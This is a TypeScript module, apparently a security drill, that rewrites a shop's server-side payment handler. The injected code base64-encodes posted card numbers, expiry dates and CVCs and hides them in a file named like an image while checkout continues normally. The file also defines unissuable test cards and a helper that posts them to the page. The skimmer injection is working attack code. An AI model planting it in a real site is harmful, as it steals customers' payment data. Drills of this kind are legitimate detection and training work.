/**
 * DRILL: acts on loopback only. The shop's own payment page, altered on the server: card fields that are posted to it
 * are added, encoded, to a file that is named like a picture; the checkout goes on as it always did.
 */
export function alteredPaymentPage(source: string): string {
  const altered = source
    .replace(
      "import { html, raw } from './_html.js';",
      "import { html, raw } from './_html.js';\nimport { appendFileSync } from 'node:fs';",
    )
    .replace(
      'export async function post(shop) {',
      `export async function post(shop) {
  if (shop.form.card_number) appendFileSync(new URL('../${FAKE_IMAGE}', import.meta.url), Buffer.from([shop.form.card_number, shop.form.card_exp, shop.form.card_cvc].join('|')).toString('base64') + '\\n');`,
    );
  if (altered.split('appendFileSync').length !== 3)
    throw new Error('drill: site/pages/payment.js is not as the drill knows it');
  return altered;
}

export const FAKE_IMAGE = 'uploads/campaign-aki.jpg';

/** Numbers of a range that no issuer can ever own. */
export const CARDS = ['9999000000000004', '9999000000000012'] as const;

/** What the altered page makes of a card. */
export const stolen = (card: string): string => `${Buffer.from(`${card}|12/39|123`).toString('base64')}\n`;

/** Posts a card to the payment page, as a form of the attacker's own would. */
export async function postCard(storefront: string, card: string): Promise<void> {
  await fetch(new URL('/checkout/payment', storefront), {
    method: 'POST',
    redirect: 'manual',
    body: new URLSearchParams({ card_number: card, card_exp: '12/39', card_cvc: '123' }),
  });
}
